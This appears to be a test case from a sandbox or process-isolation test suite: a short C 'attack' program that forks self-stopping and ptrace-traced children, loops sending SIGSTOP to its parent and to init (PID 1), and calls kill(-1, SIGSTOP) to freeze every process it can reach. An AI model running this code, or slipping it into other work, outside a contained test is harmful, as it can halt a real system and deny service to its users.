#include "attack.h"

int main(void)
{
	START;
	for (int i = 0; i < 10; i++) {
		if (!fork()) {
			setsid();
			if (i & 1)
				ptrace(PTRACE_TRACEME, 0, 0, 0);
			raise(i & 2 ? SIGSTOP : SIGTSTP);
			for (;;)
				pause();
		}
	}
	if (!fork()) {
		for (;;) {
			kill(getppid(), SIGSTOP);
			kill(1, SIGSTOP);
			usleep(10000);
		}
	}
	kill(-1, SIGSTOP);
	kill(getpid(), SIGSTOP);
	for (;;)
		pause();
}
